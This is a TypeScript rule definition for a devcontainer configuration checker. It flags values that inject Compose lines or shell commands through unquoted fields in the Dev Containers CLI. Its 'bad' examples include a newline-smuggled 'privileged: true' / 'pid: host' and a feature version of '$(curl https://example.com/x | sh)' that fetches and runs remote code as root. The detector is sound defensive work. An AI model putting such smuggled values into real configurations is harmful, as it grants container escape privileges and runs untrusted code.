import { defineRule, everywhere } from './define-rule.ts';
import { measured, source } from './shared/cite.ts';
import { each } from './shared/each.ts';

export const configInjected = defineRule({
  id: 'config-injected',
  title: 'A value holds what a generated file takes for lines or commands of its own',
  concern: 'isolation',
  severity: 'critical',
  levels: everywhere('error'),
  judges: ['container', 'build'],
  reads: ['oddities'],
  options: {},
  why: 'The Dev Containers CLI pastes users, capabilities, security options, mounts and variable names into a Compose file or Dockerfile without quoting. A line break in one of them adds lines of its own, such as privileged: true, and the setting never appears under its name. Options of Features and the names of users stand in files that a shell reads at the build, as root, and nothing in them is escaped: what the value holds between $( and ), or behind a quote of its own, runs there.',
  advice: 'Take the control characters, quotes and command substitutions out; no honest value of these settings has any.',
  cites: [
    measured(
      '"containerUser":"root\\n    privileged: true" and "capAdd":["SYS_PTRACE\\n    pid: host"] in Compose mode gave a container with Privileged=true and PidMode=host',
      'devcontainer-cli',
    ),
    source('devcontainers/cli@f683c29 src/spec-node/dockerCompose.ts generateFeaturesComposeOverrideContent'),
    source(
      'devcontainers/cli@f683c29 src/spec-node/containerFeatures.ts getFeatureEnvVariables: KEY="value" as it is in devcontainer-features.env; _REMOTE_USER=value without quotes in devcontainer-features.builtin.env; getFeatureInstallWrapperScript reads both with “. ”',
    ),
  ],
  references: ['https://github.com/devcontainers/cli/blob/main/src/spec-node/dockerCompose.ts'],
  examples: [
    {
      format: 'devcontainer',
      bad: '{ "image": "debian", "capAdd": ["SYS_PTRACE\\n    pid: host"] }',
      good: '{ "image": "debian", "capAdd": ["SYS_PTRACE"] }',
    },
    {
      format: 'devcontainer',
      bad: '{ "image": "debian", "features": { "ghcr.io/devcontainers/features/go:1": { "version": "$(curl https://example.com/x | sh)" } } }',
      good: '{ "image": "debian", "features": { "ghcr.io/devcontainers/features/go:1": { "version": "1.22" } } }',
    },
  ],
  check: ({ oddities }) =>
    each(oddities, ({ kind, text }) => (kind === 'control-character' || kind === 'shell-expanded' ? text : undefined)),
});
